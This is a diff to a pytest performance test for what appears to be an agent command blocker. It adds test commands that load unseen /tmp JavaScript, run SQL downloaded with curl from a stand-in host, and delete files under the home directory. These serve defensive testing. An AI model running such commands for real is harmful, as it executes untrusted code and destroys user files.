@@ -1,7 +1,8 @@
 """Round 15 (part t1p)'s own shapes stay linear on long runs (issue 25, High 1), as rounds 12-14's do: a client
 executing an unseen file or a download (``unseen_exec``), a destroy on a scratch-named database switched away
 (``sql_scratch``), names read from stdin and overwritten (``inputops._NAMED_WRITE``), names built at run time in
-code (``builtnames``: pieces, dot pieces, concatenated dotfiles), a linter run as a module that writes. Each shape is
+code (``builtnames``: pieces, dot pieces, concatenated dotfiles), code loading a temp file and SQL from a
+substituted download (``unseen_exec._LOADER``, ``_substituted``), a linter run as a module that writes. Each shape is
 judged at 200 and at 20,000 characters (blanks, or a long word made of them); the long one must cost under 20× the
 short one, with a floor for timer noise; each long shape is still blocked."""
 from __future__ import annotations
@@ -61,13 +62,26 @@ def _glob_piece(blanks: str) -> str:
     return f"ruby -e 'Dir.glob(File.join(Dir.home, \".h?rm?s\",{blanks}\"*\")).each{{|f| File.delete(f)}}'"
 
 
+def _loader(blanks: str) -> str:
+    return f"node -e \"require('/tmp/{blanks.replace(' ', '/')}x.js')\""
+
+
+def _loader_unclosed(blanks: str) -> str:
+    return f"node -e \"require('/tmp/{blanks.replace(' ', '/')}'); require('/tmp/x.js')\""
+
+
+def _substituted_sql(blanks: str) -> str:
+    return f"psql -c \"$(curl -s{blanks}https://x.example/q.sql)\" app"
+
+
 def _module_writer(blanks: str) -> str:
     return f"python3 -m black{blanks}~/.hermes/scripts/5qln/decoding.py"
 
 
 @pytest.mark.parametrize("shape", [_unseen, _download_piped, _client_file_word, _scratch_switched,
                                    _scratch_qualified, _stdin_overwrite, _stdin_open_word, _built_pieces,
-                                   _dot_concat, _glob_piece, _module_writer])
+                                   _dot_concat, _glob_piece, _module_writer, _loader, _loader_unclosed,
+                                   _substituted_sql])
 def test_a_long_run_costs_time_in_proportion(evaluate: Any, shape: Callable[[str], str]) -> None:
     def run(blanks: str) -> None:
         command = shape(blanks)
